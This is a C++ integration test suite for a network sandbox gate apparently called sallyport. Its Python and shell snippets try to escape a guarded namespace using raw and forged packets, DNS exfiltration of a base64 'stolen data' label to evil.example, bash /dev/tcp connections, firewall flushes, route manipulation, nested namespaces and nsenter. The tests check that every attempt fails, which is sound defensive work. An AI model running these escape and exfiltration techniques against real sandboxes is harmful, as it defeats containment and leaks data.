// Root inside a guarded namespace, with all capabilities, tries to reach anything that the rules do not allow. What counts
// is what arrives at the internet's end of the cable, by any protocol, and at the host's own services.
#include <gmock/gmock.h>
#include <signal.h>

#include <algorithm>

#include "files.h"
#include "guarded.h"

namespace sallyport::integration {
namespace {

using testing::Contains;
using testing::Each;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

// By every protocol that a program can ask the kernel for, to somebody else's address. Says what was sent without an error.
constexpr const char* kEveryProtocol = R"(
import socket, struct
def attempt(name, family, kind, protocol, address, data=b'GET / HTTP/1.0\r\n\r\n'):
    try:
        with socket.socket(family, kind, protocol) as s:
            s.settimeout(0.2)
            if kind == socket.SOCK_STREAM: s.connect(address); s.sendall(data); print(name, 'answer', s.recv(100))
            else:
                if family == V4: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                s.sendto(data, address); print(name, 'sent')
    except OSError as error: print(name, 'failed', error)
V4, V6 = socket.AF_INET, socket.AF_INET6
for port in (22, 25, 80, 443, 853, 5432, 8443): attempt(f'tcp {port}', V4, socket.SOCK_STREAM, 0, ('203.0.113.66', port))
for port in (123, 443, 4500, 9999): attempt(f'udp {port}', V4, socket.SOCK_DGRAM, 0, ('203.0.113.66', port))
for port in (80, 443): attempt(f'tcp6 {port}', V6, socket.SOCK_STREAM, 0, ('2001:db8::10', port))
for port in (53, 443): attempt(f'udp6 {port}', V6, socket.SOCK_DGRAM, 0, ('2001:db8::10', port))
echo = bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0])
attempt('icmp', V4, socket.SOCK_RAW, socket.IPPROTO_ICMP, ('203.0.113.66', 0), echo)
attempt('icmp6', V6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6, ('2001:db8::10', 0), bytes([128]) + echo[1:])
for protocol in (2, 33, 41, 47, 50, 132, 136): attempt(f'ip {protocol}', V4, socket.SOCK_RAW, protocol, ('203.0.113.66', 0), b'x' * 40)
packet = struct.pack('>BBHHHBBH4s4s', 69, 0, 48, 1, 0, 64, 17, 0, socket.inet_aton('192.0.2.2'), socket.inet_aton('203.0.113.66'))
attempt('forged', V4, socket.SOCK_RAW, socket.IPPROTO_RAW, ('203.0.113.66', 0), packet + b'\x00\x35\x00\x35\x00\x1c\x00\x00' + b'x' * 20)
for group in ('224.0.0.251', '239.1.2.3', '255.255.255.255', '192.0.2.255', '169.254.169.254'):
    attempt(f'udp {group}', V4, socket.SOCK_DGRAM, 0, (group, 5353))
for name in [entry[1] for entry in socket.if_nameindex()]:
    try:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s: s.bind((name, 0x0800)); s.send(b'\xff' * 12 + b'\x08\x00' + packet + b'x' * 28); print('packet', name)
    except OSError as error: print('packet failed', error)
)";

class Escape : public IntegrationTest {
protected:
    // What has arrived that no rule allows.
    std::set<std::string> reached() {
        auto found = world().network().reached();
        for (const char* allowed : {"203.0.113.10 tcp 443", "203.0.113.11 tcp 443"}) found.erase(allowed);
        return found;
    }
    static std::string welcome(const Guard& guard) { return guard.curl({"https://api.acme.example/private"}).out; }
    void expect_no_way_out(const Guard& guard) {
        Finished attempts = guard.python(kEveryProtocol);
        EXPECT_EQ(attempts.code, 0) << attempts.err;
        EXPECT_THAT(attempts.out, Not(HasSubstr("Permission denied"))) << "what was not attempted shows nothing";
        EXPECT_THAT(reached(), IsEmpty()) << attempts.out;
    }
};

// P1, P2, P4: whatever does not speak to an allowed host ends in the namespace.
TEST_F(Escape, P1P2P4NoProtocolLeavesTheNamespace) {
    Guard guard(policy(kApiAndOpen));
    EXPECT_EQ(welcome(guard), "welcome\n");
    expect_no_way_out(guard);
}

TEST_F(Escape, P1NothingIsReachedWithTheRedirectTableFlushed) {
    Guard guard(policy(kApiAndOpen));
    guard.shell("nft flush ruleset");
    EXPECT_NE(guard.curl({"--resolve", "evil.example:443:203.0.113.66", "https://evil.example/"}).code, 0);
    expect_no_way_out(guard);
}

TEST_F(Escape, P1NothingIsReachedByOtherRoutesAddressesAndLinks) {
    Guard guard(policy(kApiAndOpen));
    guard.shell(
        "nft flush ruleset; ip rule flush; ip rule add from all lookup main; ip route flush table local;"
        "ip addr add 192.0.2.50/24 dev lo; ip link add br0 type bridge; ip link set br0 up; ip addr add 192.0.2.51/24 dev "
        "br0;"
        "ip link add v0 type veth peer name v1; ip link set v0 up; ip link set v1 up; ip route add default via 192.0.2.1 "
        "dev v0 onlink;"
        "ip route add default dev lo; ip -6 route add default dev v0; ip tuntap add tap0 mode tap; sysctl -qw "
        "net.ipv4.ip_forward=1");
    expect_no_way_out(guard);
}

// "Blocked UDP an ICMP reject. Never a silent time-out."
TEST_F(Escape, P2UdpIsRejectedAtOnce) {
    Guard guard(policy(kApiAndOpen));
    Finished udp = guard.python(R"(
import socket
for family, address in ((socket.AF_INET, '203.0.113.66'), (socket.AF_INET6, '2001:db8::10')):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(10)
    try: s.connect((address, 443)); s.send(b'x'); s.recv(10); print('answered')
    except TimeoutError: print('silence')
    except OSError as error: print('rejected')
)");
    EXPECT_EQ(udp.out, "rejected\nrejected\n") << udp.err;
}

TEST_F(Escape, P4PingIsAnsweredByNobody) {
    Guard guard(policy(kApiAndOpen));
    Finished ping = guard.python(R"(
import socket
for family, kind, address, echo in ((socket.AF_INET, socket.IPPROTO_ICMP, '203.0.113.66', 8), (socket.AF_INET6, socket.IPPROTO_ICMPV6, '2001:db8::10', 128)):
    s = socket.socket(family, socket.SOCK_RAW, kind); s.settimeout(1)
    try: s.sendto(bytes([echo, 0, 0xf7, 0xff, 0, 0, 0, 0]), (address, 0)); replies = [s.recv(1000) for _ in range(1)]; print(replies[0][20 if echo == 8 else 0] in (0, 129))
    except OSError as error: print('none')
)");
    EXPECT_THAT(ping.out, Not(HasSubstr("True"))) << ping.err;
}

TEST_F(Escape, P3NoQuestionAboutANameLeaves) {
    Guard guard(policy(kApiAndOpen));
    Finished lookups = guard.python(R"(
import socket, struct
def question(name, kind): return struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', kind, 1)
for server in ('203.0.113.53', '203.0.113.66', '8.8.8.8', '127.0.0.53'):
    for kind in (1, 16, 28, 65, 255):
        for tcp in (False, True):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(5)
            packet = question('c3RvbGVuIGRhdGE.evil.example', kind)
            try: s.connect((server, 53)); s.sendall((struct.pack('>H', len(packet)) if tcp else b'') + packet); s.recv(600)
            except OSError: pass
for name in ('more.evil.example', 'api.acme.example', 'localhost'): print(socket.gethostbyname(name))
)");
    auto addresses = lines(lookups.out);
    ASSERT_EQ(addresses.size(), 3u) << lookups.err;
    EXPECT_TRUE(addresses[1].starts_with("198.18.") || addresses[1].starts_with("198.19.")) << addresses[1];
    EXPECT_EQ(addresses[2], "127.0.0.1");
    EXPECT_THAT(reached(), IsEmpty());
    guard.curl({"https://more.evil.example/"});
    EXPECT_THAT(world().dns_questions(), IsEmpty());
    EXPECT_EQ(welcome(guard), "welcome\n");
    EXPECT_THAT(world().dns_questions(), Each(Not(HasSubstr("evil"))));
}

// A service of the host: says "hit" for each connection.
constexpr const char* kHostService = R"(
import socket, select
listeners = []
for family, address in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
    s = socket.socket(family); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if family == socket.AF_INET6: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s.bind((address, 9999)); s.listen(); listeners.append(s)
print('up', flush=True)
while True:
    for ready in select.select(listeners, [], [])[0]: ready.accept(); print('hit', flush=True)
)";

TEST_F(Escape, P5TheHostsServicesAreOutOfReach) {
    Process service = world().start({.argv = {"/usr/bin/python3", "-c", kHostService}});
    ASSERT_TRUE(wait_for_text(service.out_path(), "up"));
    Guard guard(policy("      - { host: \"**.example\", port: 9999, scheme: http }\n"));
    for (const char* host : {"127.0.0.1", "192.0.2.2", "[::1]", "[2001:db8:ffff::2]", "[::ffff:192.0.2.2]", "0.0.0.0",
                             "hostself.example", "hostself6.example", "loop.example", "loop6.example", "zero.example"}) {
        EXPECT_THAT(guard.curl({std::string("http://") + host + ":9999/"}).out, Not(HasSubstr("up"))) << host;
    }
    EXPECT_EQ(service.out(), "up\n");
    Network::command(-1, {"bash", "-c", "exec 3<>/dev/tcp/192.0.2.2/9999"});
    EXPECT_TRUE(wait_for_text(service.out_path(), "up\nhit\n")) << "the service itself does not work";
}

TEST_F(Escape, P5OtherSandboxesAreOutOfReach) {
    Guard one(policy(kApiAndOpen), {.name = "one"});
    Guard two(policy(kApiAndOpen), {.name = "two"});
    Process service = one.start({.argv = {"/usr/bin/python3", "-c", kHostService}});
    ASSERT_TRUE(wait_for_text(service.out_path(), "up"));
    for (const char* address : {"127.0.0.1", "198.18.0.1", "198.18.0.2", "192.0.2.2", "10.0.0.5"}) {
        EXPECT_NE(two.curl({"--max-time", "5", std::string("http://") + address + ":9999/"}).out, "up") << address;
    }
    EXPECT_EQ(service.out(), "up\n");
}

// The listeners of the gate itself, and port 53 that leads to them, are all that is open inside; asked directly they are no
// way to anywhere.
TEST_F(Escape, X1NothingButTheGateListensInside) {
    Guard guard(policy(kApiAndOpen));
    Finished scan = guard.python(R"(
import os, socket, ssl
for family, address in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):
    for port in range(1, 65536):
        s = socket.socket(family)
        if s.connect_ex((address, port)) == 0 and s.getsockname() != s.getpeername():
            s.settimeout(1); s.sendall(b'GET /direct HTTP/1.1\r\nHost: api.acme.example\r\nConnection: close\r\n\r\n')
            answer = b''
            try:
                while piece := s.recv(4096): answer += piece
            except OSError: pass
            tls = socket.create_connection((address, port), 1)
            try:
                tls = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']).wrap_socket(tls, server_hostname='api.acme.example')
                tls.sendall(b'GET /direct HTTP/1.1\r\nHost: api.acme.example\r\nConnection: close\r\n\r\n'); second = tls.recv(4096)
            except (OSError, ssl.SSLError) as error: second = b''
            print(address, 'names' if port == 53 else 'gate', answer[:12].decode(), second[:12].decode())
        s.close()
)");
    auto open = lines(scan.out);
    EXPECT_EQ(open.size(), 4u) << scan.all();
    for (const char* listener : {"127.0.0.1 names", "127.0.0.1 gate", "::1 names", "::1 gate"})
        EXPECT_THAT(scan.out, HasSubstr(listener));
    EXPECT_THAT(scan.out, Not(HasSubstr(" 200")));
    EXPECT_THAT(world().all_received("api.acme.example"), Not(HasSubstr("/direct")));
    EXPECT_THAT(reached(), IsEmpty());
}

// X3: who is calling is the namespace, whatever the packets say.
TEST_F(Escape, X3AForgedSourceAddressChangesNothing) {
    Guard one(policy(kApiAndOpen), {.name = "one"});
    Guard two(policy("      - { host: open.acme.example }\n"), {.name = "two"});
    two.shell("ip addr add 192.0.2.2/32 dev lo; ip addr add 198.18.0.99/32 dev lo");
    for (const char* source : {"127.0.0.9", "192.0.2.2", "198.18.0.99"}) {
        Finished curl = two.curl({"--interface", source, "https://api.acme.example/private"});
        EXPECT_THAT(curl.out, Not(HasSubstr("welcome"))) << source;
    }
    two.curl({"https://open.acme.example/echo"});
    for (const auto& line : two.access_log(1)) EXPECT_EQ(line["sandbox"], "two");
    EXPECT_THAT(parse_access_log(read_file(one.access_log_path())), IsEmpty());
}

TEST_F(Escape, X17NothingIsReachedBeforeTheGateAndAfterItsEnd) {
    UniqueFd netns = Network::make_namespace();
    Guard refused("version: 1\npolicies: { agent: { rulez: [] } }\n", {.netns = netns.get(), .may_be_refused = true});
    EXPECT_FALSE(refused.is_ready());
    expect_no_way_out(refused);
    {
        Guard guard(policy(kApiAndOpen), {.netns = netns.get()});
        EXPECT_EQ(welcome(guard), "welcome\n");
        guard.daemon().signal(SIGTERM);
        EXPECT_EQ(guard.daemon().wait(), 0);
        expect_no_way_out(guard);
    }
    Guard again(policy(kApiAndOpen), {.netns = netns.get()});
    EXPECT_EQ(welcome(again), "welcome\n");
}

TEST_F(Escape, X17KillingTheDaemonInTheMiddleOfATransferOpensNothing) {
    Guard guard(policy(kApiAndOpen));
    Process transfer = half_a_download(guard, "killed");
    guard.daemon().signal(SIGKILL);
    EXPECT_NE(transfer.wait(), 0);
    world().open_gate("killed");
    EXPECT_EQ(transfer.out(), "half ");
    expect_no_way_out(guard);
    EXPECT_NE(guard.curl({"https://open.acme.example/echo"}).code, 0);
    guard.shell("nft flush ruleset; ip route flush table local");
    expect_no_way_out(guard);
}

// X19: a namespace made inside has no more than what made it.
TEST_F(Escape, X19ANestedNamespaceReachesNothing) {
    Guard guard(policy(kApiAndOpen));
    UniqueFd inner = Network::make_namespace();
    guard.shell(
        "sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1;"
        "nft 'table ip nat { chain post { type nat hook postrouting priority 100; masquerade; }; }';"
        "nft 'table ip seen { chain in { type filter hook prerouting priority -300; iifname out0 ip daddr 203.0.113.66 "
        "counter; }; }';"
        "ip link add out0 type veth peer name in0 netns " +
        Network::path_of(inner.get()) +
        "; ip addr add 10.9.0.1/24 dev out0; ip link set out0 up; ip route del local default dev lo table local; ip route "
        "del local default dev lo");
    Network::command(inner.get(), {"ip", "-batch", "-"},
                     "link set lo up\naddr add 10.9.0.2/24 dev in0\nlink set in0 up\nroute add default via 10.9.0.1\n");
    Network::command(inner.get(), {"sh", "-c", "curl -s --max-time 1 http://203.0.113.66/ https://203.0.113.66/; true"});
    Network::command(inner.get(), {"/usr/bin/python3", "-c", kEveryProtocol});
    EXPECT_THAT(guard.shell("nft list table ip seen").out, testing::ContainsRegex("packets [1-9]"))
        << "the cable inside does not work";
    EXPECT_THAT(reached(), IsEmpty());
    expect_no_way_out(guard);
}

// An attached namespace that has a cable to the world: it is closed while the daemon lives, when the rules inside are
// flushed, and when the daemon is killed.
TEST_F(Escape, P1AnAttachedNamespacesUplinkIsClosed) {
    UniqueFd netns = Network::make_namespace();
    Cable cable = world().network().connect(netns.get());
    Network::command(netns.get(), {"curl", "-s", "--max-time", "5", "http://203.0.113.20/"});
    ASSERT_THAT(world().network().reached(), Contains("203.0.113.20 tcp 80")) << "the cable itself does not work";
    Guard guard(policy(kApiAndOpen), {.netns = netns.get()});
    EXPECT_EQ(welcome(guard), "welcome\n");
    Finished attempts = guard.python(kEveryProtocol);
    auto leaked = reached();
    leaked.erase("203.0.113.20 tcp 80");
    EXPECT_THAT(leaked, IsEmpty()) << attempts.out;
    guard.shell("nft flush ruleset; ip link set eth0 up; ip route add 203.0.113.66 via " + cable.gateway +
                "; ip -6 route add 2001:db8::10 via " + cable.gateway_v6);
    attempts = guard.python(kEveryProtocol);
    leaked = reached();
    leaked.erase("203.0.113.20 tcp 80");
    EXPECT_THAT(leaked, IsEmpty()) << "after a flush: " << attempts.out;
}

TEST_F(Escape, P1AnAttachedNamespacesUplinkStaysClosedWhenTheDaemonIsKilled) {
    UniqueFd netns = Network::make_namespace();
    world().network().connect(netns.get());
    Guard guard(policy(kApiAndOpen), {.netns = netns.get()});
    guard.daemon().signal(SIGKILL);
    guard.daemon().wait();
    expect_no_way_out(guard);
}

// A cable that is moved takes no rules with it.
TEST_F(Escape, P1AnAttachedNamespacesUplinkCannotBeMovedIntoANestedNamespace) {
    UniqueFd netns = Network::make_namespace(), inner = Network::make_namespace();
    Cable cable = world().network().connect(netns.get());
    Guard guard(policy(kApiAndOpen), {.netns = netns.get()});
    guard.shell("ip link set eth0 netns " + Network::path_of(inner.get()));
    Network::configure(inner.get(), cable);
    Network::command(inner.get(), {"/usr/bin/python3", "-c", kEveryProtocol});
    EXPECT_THAT(reached(), IsEmpty());
}

// Nobody outside speaks to a sandbox either.
TEST_F(Escape, P5NothingComesInThroughAnAttachedNamespacesUplink) {
    UniqueFd netns = Network::make_namespace();
    Cable cable = world().network().connect(netns.get());
    Guard guard(policy(kApiAndOpen), {.netns = netns.get()});
    Process service = guard.start({.argv = {"/usr/bin/python3", "-c", kHostService}});
    ASSERT_TRUE(wait_for_text(service.out_path(), "up"));
    Network::command(world().network().internet(), {"sh", "-c",
                                                    "curl -s --max-time 1 http://" + cable.address +
                                                        ":9999/; "
                                                        "curl -s --max-time 1 'http://[" +
                                                        cable.address_v6 + "]:9999/'; true"});
    EXPECT_EQ(service.out(), "up\n");
}

// "Blocked TCP a reset. Never a silent time-out", for protocols in which the server speaks first, too.
TEST_F(Escape, P1BlockedTcpIsResetAtOnce) {
    Guard guard(policy(kApiAndOpen));
    for (const auto& [host, port] :
         {std::pair{"evil.example", 22}, {"api.acme.example", 5432}, {"203.0.113.66", 25}, {"203.0.113.66", 3306}}) {
        Finished client = guard.python("import socket\ns = socket.create_connection(('" + std::string(host) + "', " +
                                       std::to_string(port) +
                                       "), 5)\ntry: print('closed', s.recv(10))\nexcept TimeoutError: print('silence')\n"
                                       "except ConnectionResetError: print('reset')\n");
        EXPECT_EQ(client.out, "reset\n") << host << client.err;
    }
    auto log = guard.access_log(4);
    EXPECT_EQ(log.size(), 4u);
    for (const auto& line : log) EXPECT_EQ(line["verdict"], "deny");
}

// A network namespace does not hold back sockets that are files.
TEST_F(Escape, P5TheHostsUnixSocketsAreOutOfReachOfRun) {
    Process service = world().start({.argv = {"/usr/bin/python3", "-c", R"(
import socket, select
listeners = []
for path in ('/run/host.sock', '/srv/world/host.sock', '\0host-abstract'):
    s = socket.socket(socket.AF_UNIX); s.bind(path); s.listen(); listeners.append(s)
print('up', flush=True)
while True:
    for ready in select.select(listeners, [], [])[0]: ready.accept(); print('hit', flush=True)
)"}});
    ASSERT_TRUE(wait_for_text(service.out_path(), "up"))
        << service.err();
    Finished tries = run_in_sandbox(policy(kApiAndOpen), {"/usr/bin/python3", "-c", R"(
import socket
for path in ('/run/host.sock', '/srv/world/host.sock', '\0host-abstract'):
    try: socket.socket(socket.AF_UNIX).connect(path); print('connected', path)
    except OSError: pass
)"});
    EXPECT_EQ(tries.out, "") << tries.err;
    EXPECT_EQ(service.out(), "up\n");
}

// `sallyport run` gives no capability to begin with.
TEST_F(Escape, P1ACommandOfRunCannotChangeItsNamespace) {
    Finished tries = run_in_sandbox(
        policy(kApiAndOpen),
        {"sh", "-c",
         "nft flush ruleset 2>/dev/null && echo flushed; ip link add br0 type bridge 2>/dev/null && echo link;"
         "ip route del local default dev lo 2>/dev/null && echo route; unshare -n true 2>/dev/null && echo netns;"
         "nsenter --net=/proc/1/ns/net true 2>/dev/null && echo entered; mount -t tmpfs none /mnt 2>/dev/null && echo "
         "mounted;"
         "echo 1 2>/dev/null >/proc/sys/net/ipv4/ip_forward && echo sysctl; mknod disk b 8 0 2>/dev/null && echo node;"
         "grep -i cap /proc/self/status; grep -E 'NoNewPrivs|Seccomp:' /proc/self/status"});
    for (const char* set : {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"}) {
        EXPECT_THAT(tries.out, HasSubstr(std::string(set) + ":\t0000000000000000\n"));
    }
    EXPECT_THAT(tries.out, HasSubstr("NoNewPrivs:\t1\n"));
    for (const char* word : {"flushed", "link\n", "route\n", "netns\n", "entered", "mounted", "sysctl", "node\n"}) {
        EXPECT_THAT(tries.out, Not(HasSubstr(word)));
    }
    run_in_sandbox(policy(kApiAndOpen), {"/usr/bin/python3", "-c", kEveryProtocol});
    EXPECT_THAT(reached(), IsEmpty());
}

}  // namespace
}  // namespace sallyport::integration
